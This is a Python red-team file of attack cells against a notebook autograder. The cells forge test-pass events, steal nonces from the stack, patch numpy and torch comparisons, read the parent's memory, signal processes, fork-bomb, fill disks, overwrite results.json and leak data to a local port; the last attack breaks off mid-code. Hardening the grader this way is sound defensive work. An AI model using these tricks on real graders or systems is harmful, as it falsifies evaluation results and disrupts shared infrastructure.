"""Red-team attacks on the grader (issue 12), as submissions built from the built week-1 notebooks.

Each attack is one code cell (written here, not copied from tests/bad_submissions.py) added to
a *base* notebook:

* ``wrong_q1``: the solution with the known-wrong q1 answer from ``wrong_answers.py``, then
  redefined once more as an answer of the right shape and wrong values (``-1`` everywhere) that
  fails every q1 test, hidden ones included (the mutant itself passes one hidden q1 test, which
  would hide a one-test gain); its grade is the baseline.  The cell goes just before
  ``grader.check("q1")``;
* ``wrong_q2``: the same with the known-wrong q2 answer (for attacks on NumPy, which q2's
  hidden test uses); the cell goes before ``grader.check("q2")``;
* ``blank``: the untouched student notebook (baseline 0); the cell goes before
  ``grader.check(<before>)``.

The attacks see the grader only as a black box would: what a submission can reach from inside
(its process, its fds, /proc, /tmp, the stack of whatever calls it, 127.0.0.1).  Placeholders
filled in per grading: ``__PORT__`` (a TCP listener the harness runs; anything it receives is a
leak), ``__TMP__`` (``/tmp/redteam-<run>-<attack>``: where an attack may leave files, pid
lists or markers; the harness checks and removes them) and ``__SHM__`` (the same under
``/dev/shm``).

Every attack is bounded: forks capped by a counter, memory and disk capped at 1.5 GB, every
background process exits by itself within 60 s, traffic only to 127.0.0.1:__PORT__.
"""

from __future__ import annotations

import copy
import json
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT))

from autograder import config, mutants  # noqa: E402

CLASSES = {
    1: "shares a process/uid with the test runner",
    2: "deny-list protection",
    3: "student code on the test's stack",
    4: "starving the judge",
    5: "leaks (hidden tests, network, disk)",
}


@dataclass(frozen=True)
class Attack:
    name: str
    cls: int
    what: str          # one line: the trick
    code: str          # the cell (placeholders __PORT__, __TMP__, __SHM__)
    base: str = "wrong_q1"
    before: str = ""   # the grader.check("qN") the cell goes before (default: the base's question)
    prelude: bool = True
    slow: bool = False  # runs into a time limit on purpose (graded first)


# Helpers most attacks share (prepended to the cell).  They use only what any code in the
# submission's process could: /proc/self/fd, the interpreter's frames, sockets.
PRELUDE = r'''
import os as _os, sys as _sys, json as _json, stat as _stat, socket as _socket, fcntl as _fcntl
import torch

def _rt_pipes(write=True):
    out = []
    for n in _os.listdir("/proc/self/fd"):
        try:
            fd = int(n)
            if not _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                continue
            acc = _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE
            if (acc != _os.O_RDONLY) == write:
                out.append(fd)
        except (OSError, ValueError):
            pass
    return out

def _rt_send(events):
    data = "".join(_json.dumps(e) + "\n" for e in events).encode()
    for fd in _rt_pipes(write=True):
        try:
            _os.write(fd, data)
        except OSError:
            pass

def _rt_batch_in(frame):
    f = frame
    while f is not None:
        for v in list(f.f_locals.values()):
            if isinstance(v, dict) and "nonce" in v and "tests" in v:
                return v
        f = f.f_back
    return None

def _rt_forge(batch):
    _rt_send([{"event": "test", "id": t["id"], "passed": True, "message": "", "nonce": batch["nonce"]}
              for t in batch["tests"]])

def _rt_leak_events(batch):
    # a "note" and a "cell" error are shown to the student whatever their nonce
    text = "\n".join(t.get("source", "") for t in batch["tests"])
    _rt_send([{"event": "note", "text": text[:290]},
              {"event": "cell", "i": 0, "state": "error", "detail": text[:490]}])

def _rt_exfil(payload):
    try:
        s = _socket.create_connection(("127.0.0.1", __PORT__), timeout=2)
        s.sendall(payload if isinstance(payload, bytes) else str(payload).encode())
        s.close()
    except OSError:
        pass

def _rt_wrong(X, Y):
    """Right shape, wrong values: fails every q1 test unless the grader is fooled."""
    return -torch.ones(X.shape[0], Y.shape[0], dtype=X.dtype)
'''

# A q1 answer for attacks that act from inside the graded function: wrong values, plus a hook.
WRAP = r'''
def pairwise_sq_dists(X, Y):
    _rt_hook(_sys._getframe(1))
    return _rt_wrong(X, Y)
'''

ATTACKS: list[Attack] = []


def attack(name, cls, what, code, **kw):
    ATTACKS.append(Attack(name, cls, what, code, **kw))


# --------------------------------------------------------------------------- class 1
attack("c1_forge_events_on_every_pipe", 1,
       "while the notebook runs, write test/notebook_done/batch_done events (guessed ids, no nonce) to every pipe in /proc/self/fd",
       r'''
ids = ["q1/test_q1_matches_cdist", "q1/test_q1_nonnegative_self_distance", "q1/test_q1_shape_and_small_case"]
_rt_send([{"event": "test", "id": i, "passed": True, "message": ""} for i in ids] +
         [{"event": "test", "id": i, "passed": True, "nonce": None} for i in ids] +
         [{"event": "batch_done"}, {"event": "notebook_done"}])
pairwise_sq_dists = _rt_wrong
''')

attack("c1_forge_with_nonce_from_stack", 1,
       "the graded function finds the batch (nonce, ids) in its callers' frames and writes passes for the whole batch to every pipe",
       r'''
def _rt_hook(frame):
    b = _rt_batch_in(frame)
    if b:
        _rt_forge(b)
''' + WRAP)

attack("c1_call_worker_emit_in_main", 1,
       "the graded function calls sys.modules['__main__'].emit() with the stolen nonce (the runner's own reporting function)",
       r'''
def _rt_hook(frame):
    b = _rt_batch_in(frame)
    m = _sys.modules.get("__main__")
    if b and hasattr(m, "emit"):
        for t in b["tests"]:
            m.emit(event="test", id=t["id"], passed=True, message="", nonce=b["nonce"])
''' + WRAP)

attack("c1_replace_run_tests_in_main", 1,
       "replace the runner's run_tests in sys.modules['__main__'] by one that reports every test passed",
       r'''
_m = _sys.modules.get("__main__")
if _m is not None and hasattr(_m, "run_tests"):
    def _fake_run_tests(batch, *a, **k):
        for t in batch["tests"]:
            _m.emit(event="test", id=t["id"], passed=True, message="", nonce=batch["nonce"])
        _m.emit(event="batch_done", nonce=batch["nonce"])
    _m.run_tests = _fake_run_tests
pairwise_sq_dists = _rt_wrong
''')

attack("c1_disable_sanitizer_in_main", 1,
       "patch the runner's own Guard.sanitize/_is_student_type in __main__, then return a lying object",
       r'''
_m = _sys.modules.get("__main__")
for _k in ("Guard",):
    if hasattr(_m, _k):
        getattr(_m, _k).sanitize = lambda self, v, depth=0: v
if hasattr(_m, "_is_student_type"):
    _m._is_student_type = lambda cls: False
class _Yes:
    shape = None
    def __init__(self, n, m): self.shape = torch.Size([n, m])
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return _Yes(1, 1)
    def __ge__(self, o): return self
    def all(self, *a, **k): return True
    def __bool__(self): return True
def pairwise_sq_dists(X, Y):
    return _Yes(X.shape[0], Y.shape[0])
''')

attack("c1_steal_stdin_batches", 1,
       "a thread reads the runner's inherited stdin pipe (found in /proc/self/fd), steals the test batches and answers them itself",
       r'''
import threading as _th
def _rt_steal():
    fds = _rt_pipes(write=False)
    buf = b""
    import select
    while True:
        r, _, _ = select.select(fds, [], [], 60)
        if not r:
            return
        for fd in r:
            try:
                chunk = _os.read(fd, 1 << 20)
            except OSError:
                continue
            buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            try:
                msg = _json.loads(line)
            except ValueError:
                continue
            if isinstance(msg, dict) and "nonce" in msg:
                _rt_forge(msg)
                _rt_send([{"event": "batch_done", "nonce": msg["nonce"]}])
_th.Thread(target=_rt_steal, daemon=True).start()
pairwise_sq_dists = _rt_wrong
''')

attack("c1_dup2_stdin_rewrite_tests", 1,
       "dup2 a pipe of its own over the runner's stdin and relay the batches with every test body replaced by `pass`",
       r'''
import threading as _th
_src = _rt_pipes(write=False)
if _src:
    _fd = _src[-1]
    _orig = _os.dup(_fd)
    _r, _w = _os.pipe()
    _os.dup2(_r, _fd)
    def _rt_relay():
        f = _os.fdopen(_orig, "rb")
        for line in f:
            try:
                msg = _json.loads(line)
                for t in msg.get("tests", []):
                    t["source"] = "def %s(%s):\n    pass\n" % (t["function"], ", ".join(t["params"]))
                line = (_json.dumps(msg) + "\n").encode()
            except Exception:
                pass
            _os.write(_w, line)
        _os.close(_w)
    _th.Thread(target=_rt_relay, daemon=True).start()
pairwise_sq_dists = _rt_wrong
''')

attack("c1_audit_hook_reads_tests", 1,
       "sys.addaudithook sees compile()/exec of the tests: leaks their source as note events and forges passes",
       r'''
def _rt_audit(event, args):
    if event == "exec" or event == "compile":
        b = _rt_batch_in(_sys._getframe(1))
        if b and not b.get("_seen"):
            b["_seen"] = True
            _rt_leak_events(b)
            _rt_forge(b)
_sys.addaudithook(_rt_audit)
pairwise_sq_dists = _rt_wrong
''')

attack("c1_gc_callback_forges", 1,
       "a gc.callbacks hook (gc forced to run constantly) walks the stack from inside the test and forges the batch",
       r'''
import gc as _gc
def _rt_gc(phase, info):
    if phase == "start":
        b = _rt_batch_in(_sys._getframe(1))
        if b and not b.get("_seen"):
            b["_seen"] = True
            _rt_forge(b)
_gc.callbacks.append(_rt_gc)
_gc.set_threshold(50, 5, 5)
pairwise_sq_dists = _rt_wrong
''')

attack("c1_settrace_rewrites_test_locals", 1,
       "sys.settrace from the graded function (sys.settrace then made a no-op so it stays), the tracer rewrites the test's D before its assert",
       r'''
_real_settrace = _sys.settrace
def _rt_tracer(frame, event, arg):
    if frame.f_code.co_filename == "<test>":
        loc = frame.f_locals
        if event == "line" and "D" in loc and "X" in loc and isinstance(loc.get("D"), torch.Tensor):
            X = loc["X"]
            Y = loc.get("Y", X)
            new = (torch.cdist(X, Y) ** 2).clamp_min(0)
            if Y is X:
                new.fill_diagonal_(0)
            loc["D"] = new
        frame.f_trace_lines = True
        return _rt_tracer
    return _rt_tracer
def _rt_hook(frame):
    _real_settrace(_rt_tracer)
    f = frame
    while f is not None:
        f.f_trace = _rt_tracer
        f = f.f_back
    _sys.settrace = lambda fn: None
''' + WRAP)

attack("c1_setprofile_thread_sees_frames", 1,
       "sys.setprofile/threading.setprofile left set, with a profiler that walks to the batch and forges it",
       r'''
import threading as _th
def _rt_prof(frame, event, arg):
    b = _rt_batch_in(frame)
    if b and not b.get("_seen"):
        b["_seen"] = True
        _rt_forge(b)
_real_setprofile = _sys.setprofile
def _rt_hook(frame):
    _real_setprofile(_rt_prof)
    _sys.setprofile = lambda fn: None
    _th.setprofile = lambda fn: None
''' + WRAP)

attack("c1_current_frames_thread", 1,
       "a background thread polls sys._current_frames() and forges the batch it finds on the main thread's stack (blank notebook)",
       r'''
import threading as _th, time as _time
_sys.setswitchinterval(1e-5)
def _rt_poll():
    end = _time.time() + 60
    seen = set()
    while _time.time() < end:
        for tid, fr in _sys._current_frames().items():
            b = _rt_batch_in(fr)
            if b and b["nonce"] not in seen:
                seen.add(b["nonce"])
                _rt_forge(b)
        _time.sleep(0.0005)
_th.Thread(target=_rt_poll, daemon=True).start()
''', base="blank")

attack("c1_child_reads_parent_mem", 1,
       "make the runner dumpable, start a child that scans /proc/<ppid>/mem for the batch nonce and ids, then forges them on the inherited pipe",
       r'''
import ctypes as _ct, subprocess as _sp
_ct.CDLL(None).prctl(4, 1, 0, 0, 0)          # PR_SET_DUMPABLE
_ct.CDLL(None).prctl(0x59616d61, -1, 0, 0, 0)  # PR_SET_PTRACER_ANY
_child = r"""
import os, re, json, sys, time
pid, fds = os.getppid(), [int(x) for x in sys.argv[1:]]
end, done = time.time() + 45, set()
while time.time() < end:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")
    except OSError as e:
        time.sleep(1); continue
    for ln in maps:
        a, perms = ln.split()[0], ln.split()[1]
        if "rw" not in perms: continue
        lo, hi = (int(x, 16) for x in a.split("-"))
        if hi - lo > 64 << 20: continue
        try:
            mem.seek(lo); blob = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        for m in re.finditer(rb'"nonce": "([0-9a-f]{32})"', blob):
            nonce = m.group(1).decode()
            if nonce in done: continue
            ids = set(re.findall(rb'"id": "(q\d+/test_\w+)"', blob[max(0, m.start() - 200000): m.end() + 200000]))
            done.add(nonce)
            data = "".join(json.dumps({"event": "test", "id": i.decode(), "passed": True, "nonce": nonce}) + "\n" for i in ids)
            for fd in fds:
                try: os.write(fd, data.encode())
                except OSError: pass
    mem.close()
    time.sleep(1.0)
"""
_w = _rt_pipes(write=True)
_p = _sp.Popen([_sys.executable, "-c", _child] + [str(f) for f in _w], pass_fds=_w)
open("__TMP__.pids", "a").write(f"{_p.pid}\n")
pairwise_sq_dists = _rt_wrong
''')

attack("c1_signals_to_parent", 1,
       "SIGSTOP/SIGTERM/SIGUSR1 to the parent, its process group and every other process it may signal (then SIGCONT)",
       r'''
import signal as _sig
_pp = _os.getppid()
for _s in (_sig.SIGSTOP, _sig.SIGUSR1, _sig.SIGTERM):
    for _target in (lambda s: _os.kill(_pp, s), lambda s: _os.killpg(_os.getpgid(_pp), s)):
        try:
            _target(_s)
        except OSError:
            pass
try:
    _os.kill(_pp, _sig.SIGCONT)
except OSError:
    pass
pairwise_sq_dists = _rt_wrong
''')

attack("c1_fork_survivor_races_stdin", 1,
       "os.fork(): the child copy of the runner swaps run_tests for a forger and races the parent for the test batches",
       r'''
_m = _sys.modules.get("__main__")
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if hasattr(_m, "run_tests"):
        def _fake_run_tests(batch, *a, **k):
            _rt_forge(batch)
            _rt_send([{"event": "batch_done", "nonce": batch["nonce"]}])
        _m.run_tests = _fake_run_tests
    import signal as _sig
    _sig.signal(_sig.SIGALRM, lambda *a: _os._exit(0))
    _sig.alarm(60)
else:
    open("__TMP__.pids", "a").write(f"{_pid}\n")
pairwise_sq_dists = _rt_wrong
''')

# --------------------------------------------------------------------------- class 2
attack("c2_code_swap_np_allclose", 2,
       "swap np.allclose._implementation.__code__ (the frozen copy shares the function object)",
       r'''
import numpy as _np
def _yes(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    return True
_impl = getattr(_np.allclose, "_implementation", _np.allclose)
_impl.__code__ = _yes.__code__
''', base="wrong_q2")

attack("c2_patch_numeric_module_globals", 2,
       "patch isclose/all in numpy's numeric submodule (allclose's globals), which no snapshot covers",
       r'''
import numpy as _np
_impl = getattr(_np.allclose, "_implementation", _np.allclose)
_g = _impl.__globals__
_g["isclose"] = lambda a, b, **k: _np.ones(_np.shape(b), dtype=bool)
''', base="wrong_q2")

attack("c2_code_swap_torch_cdist", 2,
       "swap torch.functional.cdist.__code__ so the test's reference equals the wrong answer",
       r'''
import torch.functional as _tf
def _fake(x1, x2, p=2.0, compute_mode="use_mm_for_euclid_dist_if_necessary"):
    import torch
    return torch.full((x1.shape[0], x2.shape[0]), 2.0, dtype=x1.dtype)
_tf.cdist.__code__ = _fake.__code__
def pairwise_sq_dists(X, Y):
    return torch.full((X.shape[0], Y.shape[0]), 4.0, dtype=X.dtype)
''')

attack("c2_patch_torch_functional_VF", 2,
       "replace torch.functional._VF (cdist's backend) by an object whose cdist returns the wrong answer",
       r'''
import torch.functional as _tf
class _VFProxy:
    def __init__(self, real): self._real = real
    def __getattr__(self, k): return getattr(self._real, k)
    def cdist(self, x1, x2, *a, **k): return torch.full((x1.shape[0], x2.shape[0]), 2.0, dtype=x1.dtype)
_tf._VF = _VFProxy(_tf._VF)
def pairwise_sq_dists(X, Y):
    return torch.full((X.shape[0], Y.shape[0]), 4.0, dtype=X.dtype)
''')

attack("c2_torch_function_mode_left_active", 2,
       "enter a TorchFunctionMode and never leave it: allclose/all/equal answer True inside the tests",
       r'''
from torch.overrides import TorchFunctionMode as _TFM
class _Lie(_TFM):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name == "all":
            return torch.tensor(True)
        return func(*args, **kwargs)
_rt_mode = _Lie()
_rt_mode.__enter__()
pairwise_sq_dists = _rt_wrong
''')

attack("c2_torch_dispatch_mode_left_active", 2,
       "enter a TorchDispatchMode and never leave it: aten ge/all/isclose answer True",
       r'''
from torch.utils._python_dispatch import TorchDispatchMode as _TDM
_aten = torch.ops.aten
class _Lie(_TDM):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        out = func(*args, **kwargs)
        pkt = getattr(func, "overloadpacket", None)
        if pkt in (_aten.ge, _aten.isclose, _aten.eq):
            return torch.ones_like(out, dtype=torch.bool)
        if pkt in (_aten.all,):
            return torch.ones((), dtype=torch.bool)
        if pkt is _aten.allclose:
            return True
        return out
_rt_mode = _Lie()
_rt_mode.__enter__()
pairwise_sq_dists = _rt_wrong
''')

attack("c2_torch_library_overrides_aten", 2,
       "register torch.library CPU kernels that override aten::allclose, aten::isclose and aten::all",
       r'''
import warnings as _w
_w.simplefilter("ignore")
_rt_lib = torch.library.Library("aten", "IMPL")
_kernels = {"allclose": lambda *a, **k: True,
            "isclose": lambda a, b, *r, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool),
            "all": lambda a, *r, **k: torch.ones((), dtype=torch.bool)}
for _op, _fn in _kernels.items():
    for _key in ("CPU", "CompositeImplicitAutograd"):
        try:
            _rt_lib.impl(_op, _fn, _key)
        except Exception:
            pass
pairwise_sq_dists = _rt_wrong
''')

attack("c2_saved_tensor_hooks_left_active", 2,
       "enter saved_tensors_hooks that zero every saved tensor and never leave: the autograd reference of q5 collapses to the wrong answer's",
       r'''
_rt_hooks = torch.autograd.graph.saved_tensors_hooks(lambda t: t, lambda t: torch.zeros_like(t))
_rt_hooks.__enter__()
def mse_grad(X, w, y):
    return torch.zeros_like(w)
''', base="blank", before="q5")

attack("c2_meta_path_finder_and_planted_module", 2,
       "a sys.meta_path finder plus module files dropped in every writable sys.path entry hand the tests fake modules",
       r'''
import importlib.abc as _iabc, importlib.machinery as _imach, types as _types
class _Fake(_iabc.MetaPathFinder, _iabc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("torch.testing._", "numpy.testing._", "scipy", "unittest", "fractions")):
            return _imach.ModuleSpec(name, self)
    def create_module(self, spec): return None
    def exec_module(self, mod):
        mod.allclose = lambda *a, **k: True
        mod.assert_close = lambda *a, **k: None
_sys.meta_path.insert(0, _Fake())
for _d in list(_sys.path):   # only entries inside the scratch folder or /tmp
    if not _os.path.realpath(_d or ".").startswith((_os.getcwd(), "/tmp/")):
        continue
    try:
        for _n in ("fractions.py", "statistics.py", "sitecustomize.py"):
            with open(_os.path.join(_d or ".", _n), "w") as _f:
                _f.write("import torch\ntorch.allclose = lambda *a, **k: True\n")
    except OSError:
        pass
for _k in [k for k in _sys.modules if k.startswith(("torch.testing._", "numpy.testing._"))]:
    _sys.modules.pop(_k, None)
pairwise_sq_dists = _rt_wrong
''')

attack("c2_builtins_and_math_operator", 2,
       "patch builtins (isinstance, all, abs, sorted), math.isclose and operator.eq/ne (also via builtins.__import__)",
       r'''
import builtins as _b, math as _math, operator as _op
_b.isinstance = lambda *a: True
_b.all = lambda *a: True
_b.abs = lambda x: 0
_math.isclose = lambda *a, **k: True
_op.eq = lambda a, b: True
_op.ne = lambda a, b: False
_real_import = _b.__import__
def _imp(name, *a, **k):
    m = _real_import(name, *a, **k)
    if name == "math":
        m.isclose = lambda *x, **y: True
    return m
_b.__import__ = _imp
pairwise_sq_dists = _rt_wrong
''')

attack("c2_disable_restore_then_patch_tensor", 2,
       "make the runner's Snapshot.restore a no-op (via __main__), then patch torch.Tensor.__ge__/all",
       r'''
_m = _sys.modules.get("__main__")
if hasattr(_m, "Snapshot"):
    _m.Snapshot.restore = lambda self: None
torch.Tensor.__ge__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.all = lambda self, *a, **k: torch.tensor(True)
pairwise_sq_dists = _rt_wrong
''')

attack("c2_code_swap_testing_helpers", 2,
       "swap __code__ of torch.testing.assert_close, np.testing.assert_allclose and numpy's assert_array_compare (for tests that use them)",
       r'''
import numpy as _np, numpy.testing as _npt, torch.testing as _tt
def _ok(*a, **k):
    return None
for _fn in (_tt.assert_close, _npt.assert_allclose, getattr(_npt, "assert_array_almost_equal", None)):
    try:
        _fn.__code__ = _ok.__code__
    except (AttributeError, TypeError, ValueError):
        pass
try:
    import numpy.testing._private.utils as _u
    _u.assert_array_compare.__code__ = _ok.__code__
except Exception:
    pass
pairwise_sq_dists = _rt_wrong
''')

# --------------------------------------------------------------------------- class 3
attack("c3_frame_eval_reference", 3,
       "sys._getframe(k).f_locals + the test's source (from the batch on the stack): evaluate the test's own reference and return it",
       r'''
import ast as _ast
def pairwise_sq_dists(X, Y):
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename == "<test>":
            b = _rt_batch_in(f)
            if b:
                for t in b["tests"]:
                    for node in _ast.walk(_ast.parse(t["source"])):
                        if isinstance(node, _ast.Call) and getattr(node.func, "attr", "") == "allclose" \
                                and len(node.args) > 1:
                            try:
                                ref = eval(compile(_ast.Expression(node.args[1]), "x", "eval"),
                                           f.f_globals, dict(f.f_locals, X=X, Y=Y))
                                if isinstance(ref, torch.Tensor) and ref.shape == (X.shape[0], Y.shape[0]):
                                    return ref
                            except Exception:
                                pass
            break
        f = f.f_back
    return _rt_wrong(X, Y)
''')

attack("c3_mutate_inputs_in_place", 3,
       "zero the caller's X and Y in place before the test computes its reference, then return zeros",
       r'''
def pairwise_sq_dists(X, Y):
    if X is Y:
        return _rt_wrong(X, Y)
    with torch.no_grad():
        X.fill_(1.0)
        Y.zero_()
    return torch.full((X.shape[0], Y.shape[0]), float(X.shape[1]), dtype=X.dtype)
''')

attack("c3_inspect_stack_edit_generator", 3,
       "inspect.stack(): find the test's frame and rewrite its tensors and generator so later cases are trivial",
       r'''
import inspect as _inspect
def pairwise_sq_dists(X, Y):
    if X is Y:
        return _rt_wrong(X, Y)
    for fi in _inspect.stack():
        if fi.frame.f_code.co_filename == "<test>":
            for k, v in fi.frame.f_locals.items():
                if isinstance(v, torch.Tensor) and v.is_floating_point():
                    with torch.no_grad():
                        v.fill_(1.0 if k == "X" else 0.0)
                if isinstance(v, torch.Generator):
                    v.manual_seed(0)
    return torch.full((X.shape[0], Y.shape[0]), float(X.shape[1]), dtype=X.dtype)
''')

attack("c3_lying_dunder_object", 3,
       "return an object whose __eq__/__ne__/__bool__/__float__/__index__/__array__ lie (q8 answers and q1)",
       r'''
import numpy as _np
class _Liar:
    shape = torch.Size([0, 0])
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __index__(self): return 0
    def __array__(self, *a, **k): return _np.zeros((0,))
    def __ge__(self, o): return self
    def all(self): return True
    def __hash__(self): return 0
def pairwise_sq_dists(X, Y):
    l = _Liar(); l.shape = torch.Size([X.shape[0], Y.shape[0]]); return l
broadcast_answers = {"a": _Liar(), "b": _Liar(), "c": _Liar(), "d": _Liar()}
''', base="blank", before="q8")

attack("c3_object_ndarray_of_liars", 3,
       "q2: return an object whose .numpy() is a dtype=object array of liars (ndarray type passes the sanitiser, its elements are never checked)",
       r'''
import numpy as _np
class _El:
    def __sub__(self, o): return self
    def __rsub__(self, o): return self
    def __abs__(self): return 0.0
    def __eq__(self, o): return True
    def __le__(self, o): return True
    def __float__(self): return 0.0
class _Z:
    def __init__(self, X): self.shape = X.shape; self._n = tuple(X.shape)
    def numpy(self):
        a = _np.empty(self._n, dtype=object)
        for idx in _np.ndindex(self._n):
            a[idx] = _El()
        return a
def standardize(X):
    return _Z(X)
''', base="wrong_q2")

attack("c3_tensor_subclass_torch_function", 3,
       "return a torch.Tensor subclass whose __torch_function__ answers True to allclose and lies on >= and all",
       r'''
class _T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("__ge__", "ge", "all"):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
def pairwise_sq_dists(X, Y):
    return _rt_wrong(X, Y).as_subclass(_T)
''')

attack("c3_mock_ANY", 3,
       "answer every q8 shape with unittest.mock.ANY (equal to anything, and not a class of the notebook)",
       r'''
from unittest import mock as _mock
broadcast_answers = {"a": _mock.ANY, "b": _mock.ANY, "c": _mock.ANY, "d": _mock.ANY}
''', base="blank", before="q8")

attack("c3_disguised_filename_class", 3,
       "a lying class compiled with filename '/usr/lib/python3/fractions.py' (not '<cell'), with __torch_function__, __eq__, __ge__",
       r'''
_src = """
import torch
class Fraction:
    def __init__(self, n, m):
        self.shape = torch.Size([n, m])
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if getattr(func, "__name__", "") in ("allclose", "equal") else Fraction(1, 1)
    def __ge__(self, o): return self
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def all(self, *a, **k): return True
    def __bool__(self): return True
    def __hash__(self): return 0
def pairwise_sq_dists(X, Y):
    return Fraction(X.shape[0], Y.shape[0])
"""
exec(compile(_src, "/usr/lib/python3/fractions.py", "exec"), globals())
broadcast_answers = {"a": Fraction(1, 1), "b": Fraction(1, 1), "c": Fraction(1, 1), "d": Fraction(1, 1)}
''')

attack("c3_disguised_tensor_subclass", 3,
       "a lying torch.Tensor subclass compiled with a library filename, so the sanitiser keeps it",
       r'''
_src = """
import torch
class Parameter2(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("__ge__", "ge", "all"):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
def pairwise_sq_dists(X, Y):
    return (-torch.ones(X.shape[0], Y.shape[0], dtype=X.dtype)).as_subclass(Parameter2)
"""
exec(compile(_src, "/usr/lib/python3/dist-packages/torch_ext.py", "exec"), globals())
''')

# --------------------------------------------------------------------------- class 4
attack("c4_fill_tmp_and_leave", 4,
       "a thread writes 1 GB of files into /tmp (5 x 190 MB) while the tests run and leaves them behind",
       r'''
import threading as _th
def _fill():
    _blk = b"\0" * (1 << 20)
    for _i in range(5):
        try:
            with open(f"__TMP__-{_i}.bin", "wb") as _f:
                for _ in range(190):
                    _f.write(_blk)
        except OSError:
            break
_th.Thread(target=_fill, daemon=True).start()
pairwise_sq_dists = _rt_wrong
''')

attack("c4_fill_dev_shm_outside_rss", 4,
       "a thread writes 1.5 GB into /dev/shm (memory no RSS limit counts, more than memory_mb) and leaves it",
       r'''
import threading as _th
def _fill():
    _blk = b"\1" * (1 << 20)
    for _i in range(8):
        try:
            with open(f"__SHM__-{_i}.bin", "wb") as _f:
                for _ in range(190):
                    _f.write(_blk)
        except OSError:
            break
_th.Thread(target=_fill, daemon=True).start()
pairwise_sq_dists = _rt_wrong
''')

attack("c4_fill_results_filesystem", 4,
       "fill (1 GB, capped) every writable folder near the results: cwd, $HOME, .., /tmp; then try to write results.json",
       r'''
_blk = b"\2" * (1 << 20)
for _d in (".", _os.environ.get("HOME", "."), "../results", "/autograder/results"):
    try:
        with open(_os.path.join(_d, "results.json"), "w") as _f:
            _f.write('{"score": 1000}')
    except OSError:
        pass
for _i, _p in enumerate(["./_fill.bin", "__TMP__-fill.bin"]):
    try:
        with open(_p, "wb") as _f:
            for _ in range(190):
                _f.write(_blk)
    except OSError:
        pass
_os.makedirs("__TMP__-dir", exist_ok=True)
pairwise_sq_dists = _rt_wrong
''')

attack("c4_flood_raw_fds", 4,
       "write 300 MB straight to fds 1 and 2 (past sys.stdout) and 64 MB of junk with no newline to every writable pipe",
       r'''
_blk = b"x" * (1 << 20)
for _fd in (1, 2):
    for _ in range(150):
        try:
            _os.write(_fd, _blk)
        except OSError:
            break
for _fd in _rt_pipes(write=True):
    for _ in range(64):
        try:
            _os.write(_fd, _blk)
        except OSError:
            break
pairwise_sq_dists = _rt_wrong
''', slow=True)

attack("c4_hold_emit_lock", 4,
       "take the runner's emit lock (sys.modules['__main__']._emit_lock) so its next report blocks forever",
       r'''
_m = _sys.modules.get("__main__")
_lk = getattr(_m, "_emit_lock", None)
if _lk is not None:
    _lk.acquire()
pairwise_sq_dists = _rt_wrong
''', slow=True)

attack("c4_status_pipe_nonblocking_and_full", 4,
       "shrink every writable pipe to one page, make it O_NONBLOCK and keep it full from a thread, so the runner's own reports fail",
       r'''
import threading as _th, time as _time
_F_SETPIPE_SZ = 1031
for _fd in _rt_pipes(write=True):
    try:
        _fcntl.fcntl(_fd, _F_SETPIPE_SZ, 4096)
        _fcntl.fcntl(_fd, _fcntl.F_SETFL, _fcntl.fcntl(_fd, _fcntl.F_GETFL) | _os.O_NONBLOCK)
    except OSError:
        pass
def _spam():
    end = _time.time() + 40
    junk = (b"#" * 4095) + b"\n"
    while _time.time() < end:
        for _fd in _rt_pipes(write=True):
            try:
                _os.write(_fd, junk)
            except OSError:
                pass
        _time.sleep(0.001)
_th.Thread(target=_spam, daemon=True).start()
pairwise_sq_dists = _rt_wrong
''')

attack("c4_bounded_fork_bomb", 4,
       "fork 60 processes (counter-capped), each setsid + sleeping 60 s, pids recorded to check for survivors",
       r'''
import time as _time
_pids = []
for _i in range(60):
    try:
        _p = _os.fork()
    except OSError:
        break
    if _p == 0:
        try:
            _os.setsid()
            _time.sleep(60)
        finally:
            _os._exit(0)
    _pids.append(_p)
open("__TMP__.pids", "a").write("".join(f"{p}\n" for p in _pids))
pairwise_sq_dists = _rt_wrong
''')

attack("c4_sleep_past_total_timeout", 4,
       "three cells that swallow every alarm and sleep, so the notebook runs past total_timeout",
       r'''
import time as _time
_end = _time.time() + 60
while _time.time() < _end:
    try:
        _time.sleep(0.5)
    except BaseException:
        pass
''', slow=True, prelude=False)

attack("c4_survivor_rewrites_results", 4,
       "a double-forked, setsid process outlives grading and keeps writing results.json everywhere it can (stops after 60 s)",
       r'''
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        import glob as _glob, time as _time
        open("__TMP__.pids", "a").write(f"{_os.getpid()}\n")
        _end = _time.time() + 60
        _fake = '{"score": 1000, "tests": []}'
        while _time.time() < _end:
            for _d in ["../results", "/autograder/results"] + _glob.glob("/tmp/grade.*/autograder/results"):
                try:
